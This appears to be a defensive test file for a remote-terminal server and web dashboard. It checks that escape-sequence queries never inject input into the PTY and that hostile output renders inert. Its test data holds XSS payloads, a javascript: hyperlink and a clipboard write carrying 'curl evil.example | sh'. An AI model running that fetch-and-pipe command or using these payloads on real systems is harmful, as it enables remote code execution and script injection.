/**
 * Terminal output is hostile input. A program prints terminal queries (DA, DSR, colour and window
 * queries, DECRQSS), an OSC 52 clipboard write and read, a javascript: hyperlink, and HTML that would
 * run if inserted as markup. The server's headless terminal parses it all and would answer the
 * queries, but its answers go nowhere: the only byte that reaches the PTY is the one the test types.
 * In Chromium, the dashboard shows the same session: nothing runs, nothing is injected.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { Terminal } from "@xterm/headless";
import type { Browser } from "playwright-core";
import { launch } from "../dashboard/browser.ts";
import { BUN, CLI, REPO, type TestServer, sessions, startTestServer } from "../support/server.ts";
import { spawnInPty } from "../support/pty.ts";
import { waitFor } from "../support/wait.ts";
import { auditActions } from "./support.ts";

const QUERIES = "\\e[c\\e[>c\\e[6n\\e[5n\\e]10;?\\a\\e]11;?\\a\\e[18t\\e[14t\\eP\\$qm\\e\\\\\\e]52;c;?\\a";
const HOSTILE = [
  `printf '%s\\n' '<script>window.__pwned=1;alert(1)</script>'`,
  `printf '%s\\n' '<img src=x onerror="window.__pwned=2;alert(2)">'`,
  `printf '\\e]52;c;%s\\a' "$(printf 'curl evil.example | sh' | base64)"`,
  `printf '\\e]8;;javascript:window.__pwned=3\\aclick-me\\e]8;;\\a\\n'`,
  `printf '${QUERIES}'`,
  `printf 'QUERIES-SENT\\n'`,
  // Now report the first byte typed into the PTY, and anything else that arrives within half a second.
  `stty -echo -icanon min 1 time 0`,
  `first=$(dd bs=1 count=1 2>/dev/null | od -An -tx1 | tr -d ' \\n')`,
  `stty -icanon min 0 time 5`,
  `rest=$(dd bs=1 count=512 2>/dev/null | od -An -tx1 | tr -d ' \\n')`,
  `printf 'FIRST=%s REST=<%s>\\n' "$first" "$rest"`,
].join("; ");

let server: TestServer;
let configDir: string;
let browser: Browser | null = null;

beforeAll(async () => {
  server = await startTestServer();
  ({ configDir } = await server.pairDevice("hostile"));
});
afterAll(async () => {
  await browser?.close();
  await server.stop();
});

async function hostileSession(name: string) {
  const pty = spawnInPty([BUN, CLI, "exec", "--name", name, "--", "bash", "-c", HOSTILE], { env: { CLAUDE_REMOTE_CONFIG_DIR: configDir } });
  const s = await waitFor(async () => (await sessions(server)).find((x) => x.name === name && x.status === "running"), {
    what: `session ${name}`,
  });
  // The server's headless terminal has parsed the queries once its screen shows the line after them.
  await waitFor(
    async () =>
      ((await (await server.api(`/api/sessions/${s.id}/screen`)).json()) as { lines: string[] }).lines.some((l) =>
        l.includes("QUERIES-SENT"),
      ),
    { what: "queries parsed on the server" },
  );
  return { pty, id: s.id };
}

async function typeAndReport(pty: ReturnType<typeof spawnInPty>, id: string) {
  expect((await server.api(`/api/sessions/${id}/input`, { method: "POST", body: JSON.stringify({ text: "Z" }) })).status).toBe(200);
  await waitFor(() => /FIRST=\w* REST=<\w*>/.test(pty.text()), { what: "the program's report" });
  expect(await pty.exited).toBe(0);
  return /FIRST=(\w*) REST=<(\w*)>/.exec(pty.text())!.slice(1);
}

test("xterm answers these queries when asked (so not forwarding the answers is what protects us)", async () => {
  const term = new Terminal({ cols: 80, rows: 24, allowProposedApi: true });
  const replies: string[] = [];
  term.onData((d) => replies.push(d));
  await new Promise<void>((r) => term.write("\x1b[c\x1b[6n\x1b[5n", r));
  expect(replies.join("")).toContain("\x1b[?");
  expect(replies.join("")).toContain("R");
  term.dispose();
});

test("DA/DSR and other queries in a session's output never produce input to its PTY", async () => {
  const { pty, id } = await hostileSession("queries-server");
  // An SSE viewer of the raw stream and one of the screen are attached too, as a dashboard would be.
  const raw = await server.api(`/events?session=${id}`);
  const screen = await server.api(`/events?session=${id}&view=screen`);
  await Bun.sleep(200);
  const [first, rest] = await typeAndReport(pty, id);
  await raw.body?.cancel();
  await screen.body?.cancel();
  expect(first).toBe("5a"); // "Z": the first byte the program saw is the one typed
  expect(rest).toBe("");
  expect((await auditActions(server)).filter((a) => a.action === "session.input" && a.target === id).map((a) => a.detail)).toEqual([
    { text: "Z" },
  ]);
});

const DASHBOARD = existsSync(join(REPO, "public/index.html")) && existsSync(join(REPO, "public/js/session.js"));

test.skipIf(!DASHBOARD)(
  "in Chromium, the dashboard shows the hostile session: no script runs, nothing is injected, nothing reaches the PTY",
  async () => {
    const { pty, id } = await hostileSession("queries-browser");
    browser = await launch();
    const context = await browser.newContext({ serviceWorkers: "block" });
    try {
      const page = await context.newPage();
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      const consoleErrors: string[] = [];
      page.on("pageerror", (e) => consoleErrors.push(e.message));
      // A CSP refusal would mean something tried to run inline code or load a foreign resource.
      page.on(
        "console",
        (m) => m.type() === "error" && /Content Security Policy|Refused to/.test(m.text()) && consoleErrors.push(m.text()),
      );
      // Log in by the printed link: the token must leave the address bar.
      await page.goto(`${server.url}/#token=${encodeURIComponent(server.token)}`);
      await waitFor(async () => (await context.cookies(server.url)).some((c) => c.name === "cr_session"), { what: "session cookie" });
      expect(page.url()).not.toContain(server.token);
      await page.goto(`${server.url}/#/s/${encodeURIComponent(id)}`);
      await page.waitForFunction(() => document.body.innerText.includes("QUERIES-SENT"), null, { timeout: 15_000 });
      const text = await page.evaluate(() => document.body.innerText);
      expect(text).toContain("<script>window.__pwned=1;alert(1)</script>");
      expect(text).toContain('<img src=x onerror="window.__pwned=2;alert(2)">');
      await Bun.sleep(300);
      const dom = await page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
        inlineScripts: Array.from(document.scripts).filter((s) => !s.src).length,
        imgs: Array.from(document.querySelectorAll("img")).map((i) => i.getAttribute("src")),
        handlers: Array.from(document.querySelectorAll("*")).filter((e) => Array.from(e.attributes).some((a) => a.name.startsWith("on")))
          .length,
        jsLinks: Array.from(document.querySelectorAll("a")).filter((a) => /^\s*javascript:/i.test(a.getAttribute("href") ?? "")).length,
      }));
      expect(dom).toEqual({ pwned: null, inlineScripts: 0, imgs: dom.imgs.filter((s) => s !== "x"), handlers: 0, jsLinks: 0 });
      expect(dom.imgs).not.toContain("x");
      expect(dialogs).toEqual([]);
      // Only after the page has shown it all, the test types one byte: it is the first the program sees.
      const [first, rest] = await typeAndReport(pty, id);
      expect(first).toBe("5a");
      expect(rest).toBe("");
      expect(consoleErrors).toEqual([]);
    } finally {
      await context.close();
    }
  },
);
